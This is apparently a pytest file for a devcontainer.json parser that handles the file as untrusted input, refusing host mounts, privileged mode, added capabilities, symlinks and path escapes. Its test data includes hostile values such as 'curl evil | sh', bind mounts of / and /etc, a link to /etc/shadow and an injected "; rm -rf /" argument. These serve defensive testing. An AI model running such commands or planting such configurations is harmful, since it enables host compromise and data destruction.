"""devcontainer.json as the spec reads it, and as untrusted input (environments/devcontainer.py,
environments/sources.py)."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from contracts.errors import EnvironmentInvalid, EnvironmentRefused
from environments import devcontainer as dc
from environments.features import env_file, local_feature
from environments.sources import find_devcontainer, read

WS = "/home/fleet/src/app"
COMMENTED = b"""// the project's container
{
  /* a block comment */
  "name": "app",
  "build": {
    "dockerfile": "Dockerfile",   // beside this file
    "context": "..",
    "args": {"NODE": 22,},
    "target": "dev",
  },
  "containerEnv": {"APP_HOME": "${containerWorkspaceFolder}",
                   "NAME": "${localWorkspaceFolderBasename}"},
  "remoteEnv": {"PATH": "${containerEnv:PATH}:/opt/bin", "SECRET": "${localEnv:FLEET_SECRET_KEY}",
                "DROPPED": null},
  "onCreateCommand": "echo create",
  "postCreateCommand": ["make", "deps"],
  "postStartCommand": {"web": "npm start", "db": ["pg_ctl", "start"]},
  "forwardPorts": [3000, "localhost:5432"],
  "portsAttributes": {"3000": {"label": "web", "protocol": "https", "onAutoForward": "notify"}},
  "remoteUser": "dev",
  "containerUser": "root",
  "hostRequirements": {"cpus": 2, "memory": "4gb"},
}
"""


def test_comments_trailing_commas_variables_and_every_property() -> None:
    got = dc.parse(COMMENTED, ".devcontainer/devcontainer.json", workspace=WS)
    assert got.build == dc.Build(dockerfile=".devcontainer/Dockerfile", context=".",
                                 args={"NODE": "22"}, target="dev")  # fmt: skip
    assert got.container_env == {"APP_HOME": WS, "NAME": "app"}
    # containerEnv is resolved in the machine; the platform's own environment is never read.
    assert got.remote_env == {"PATH": "${containerEnv:PATH}:/opt/bin", "SECRET": ""}
    assert got.lifecycle == {
        "onCreateCommand": "echo create",
        "postCreateCommand": ["make", "deps"],
        "postStartCommand": {"web": "npm start", "db": ["pg_ctl", "start"]},
    }
    assert got.forward_ports == [3000, 5432]
    assert got.ports_attributes == {"3000": dc.PortAttributes(label="web", protocol="https")}
    assert (got.remote_user, got.container_user) == ("dev", "root")
    assert got.host_requirements == dc.HostRequirements(cpus=2, memory_bytes=4 * 1024**3)


def test_container_env_expanded_with_defaults() -> None:
    value = "${containerEnv:PATH}:${containerEnv:NOPE:/x}:${containerEnv:GONE}"
    assert dc.expand_container_env(value, {"PATH": "/bin"}) == "/bin:/x:"


@pytest.mark.parametrize(
    ("prop", "value"),
    [
        ("runArgs", ["--network=host"]),
        ("privileged", True),
        ("capAdd", ["SYS_ADMIN"]),
        ("securityOpt", ["seccomp=unconfined"]),
        ("mounts", ["source=/etc,target=/host,type=bind"]),
        ("mounts", [{"source": "shared", "target": "/data", "type": "volume"}]),
        ("network", "host"),
        ("devices", ["/dev/kvm"]),
        ("dockerComposeFile", "compose.yml"),
        ("initializeCommand", "curl evil | sh"),
        ("workspaceMount", "source=/,target=/w,type=bind"),
    ],
)
def test_each_refused_property_is_named(prop: str, value: object) -> None:
    import json

    doc = json.dumps({"image": "base", prop: value}).encode()
    with pytest.raises(EnvironmentRefused) as err:
        dc.parse(doc, ".devcontainer.json", workspace=WS)
    assert prop in err.value.message
    assert err.value.data == {"properties": [prop]}


def test_all_refused_properties_in_one_error() -> None:
    doc = b'{"image": "b", "runArgs": [], "privileged": true, "capAdd": ["X"], "mounts": ["a"]}'
    with pytest.raises(EnvironmentRefused) as err:
        dc.parse(doc, ".devcontainer.json", workspace=WS)
    assert err.value.data == {"properties": ["runArgs", "privileged", "capAdd", "mounts"]}


def test_harmless_values_of_guarded_properties_pass() -> None:
    doc = b'{"image": "b", "privileged": false, "capAdd": [], "mounts": ["target=/t,type=tmpfs"]}'
    assert dc.parse(doc, ".devcontainer.json", workspace=WS).image == "b"


@pytest.mark.parametrize(
    ("text", "where"),
    [
        (b'{\n  "image": "b"\n  "x": 1\n}', "line 3"),
        (b'{"image": ', "line 1"),
        (b"[1, 2]", "must hold a JSON object"),
        (b'{"name": "no image"}', "neither `image` nor `build.dockerfile`"),
        (b'{"build": {"dockerfile": "../../etc/passwd"}}', "must stay inside the repo"),
        (b'{"image": "b", "forwardPorts": ["db:5432"]}', "not a port of the machine"),
        (b'{"image": "b", "hostRequirements": {"memory": "lots"}}', "not a size"),
        (b"\xff{}", "not UTF-8"),
    ],
)
def test_malformed_files_say_where(text: bytes, where: str) -> None:
    with pytest.raises(EnvironmentInvalid, match=where):
        dc.parse(text, ".devcontainer/devcontainer.json", workspace=WS)


def test_a_linked_devcontainer_json_is_never_read(tmp_path: Path) -> None:
    (tmp_path / ".devcontainer").mkdir()
    os.symlink("/etc/shadow", tmp_path / ".devcontainer" / "devcontainer.json")
    with pytest.raises(EnvironmentInvalid, match="never followed"):
        read(tmp_path, ".devcontainer/devcontainer.json")
    os.symlink("/etc", tmp_path / "etc")  # a linked folder on the way too
    with pytest.raises(EnvironmentInvalid, match="never followed"):
        read(tmp_path, "etc/passwd")
    assert find_devcontainer(tmp_path) is None


def test_size_cap(tmp_path: Path) -> None:
    (tmp_path / ".devcontainer.json").write_bytes(b" " * (dc.MAX_CONFIG_BYTES + 1))
    with pytest.raises(EnvironmentInvalid, match="over"):
        read(tmp_path, ".devcontainer.json", dc.MAX_CONFIG_BYTES)


def test_found_in_the_specs_places_in_order(tmp_path: Path) -> None:
    assert find_devcontainer(tmp_path) is None
    (tmp_path / ".devcontainer" / "py").mkdir(parents=True)
    (tmp_path / ".devcontainer" / "py" / "devcontainer.json").write_text("{}")
    assert find_devcontainer(tmp_path) == ".devcontainer/py/devcontainer.json"
    (tmp_path / ".devcontainer.json").write_text("{}")
    assert find_devcontainer(tmp_path) == ".devcontainer.json"
    (tmp_path / ".devcontainer" / "devcontainer.json").write_text("{}")
    assert find_devcontainer(tmp_path) == ".devcontainer/devcontainer.json"


def test_a_local_features_metadata_is_held_to_the_same_rules(tmp_path: Path) -> None:
    feature = tmp_path / ".devcontainer" / "evil"
    feature.mkdir(parents=True)
    (feature / "install.sh").write_text("#!/bin/sh\n")
    (feature / "devcontainer-feature.json").write_text(
        '{"id": "evil", "privileged": true, "mounts": ["source=/,target=/host,type=bind"],'
        ' "entrypoint": "/evil.sh"}'
    )
    with pytest.raises(EnvironmentRefused) as err:
        local_feature(tmp_path, ".devcontainer/devcontainer.json", "./evil", {})
    assert err.value.data == {"properties": ["privileged", "mounts", "entrypoint"]}
    assert "feature ./evil" in err.value.message


def test_feature_options_become_variables_quoted_for_the_shell(tmp_path: Path) -> None:
    feature = tmp_path / "f"
    feature.mkdir()
    (feature / "install.sh").write_text("#!/bin/sh\n")
    (feature / "devcontainer-feature.json").write_text(
        '{"id": "f", "options": {"node-version": {"default": "22"}, "pnpm": {"default": false}}}'
    )
    got = local_feature(tmp_path, "devcontainer.json", "./f", {"extra": "a'b; rm -rf /"})
    assert got.options == {"NODE_VERSION": "22", "PNPM": "false", "EXTRA": "a'b; rm -rf /"}
    assert env_file(got, "dev", "root").decode().splitlines() == [
        "export NODE_VERSION=22",
        "export PNPM=false",
        "export EXTRA='a'\"'\"'b; rm -rf /'",
        "export _REMOTE_USER=dev",
        "export _CONTAINER_USER=root",
    ]


def test_a_build_context_through_a_link_is_refused(tmp_path: Path) -> None:
    from environments.build import _context_dir

    (tmp_path / "real" / "ctx").mkdir(parents=True)
    os.symlink("/etc", tmp_path / "linked")
    os.symlink(tmp_path / "real", tmp_path / "via")
    assert _context_dir(tmp_path, "real/ctx") == "real/ctx"
    assert _context_dir(tmp_path, ".") == "."
    for rel in ("linked", "via/ctx", "missing"):
        with pytest.raises(EnvironmentInvalid, match="never followed"):
            _context_dir(tmp_path, rel)
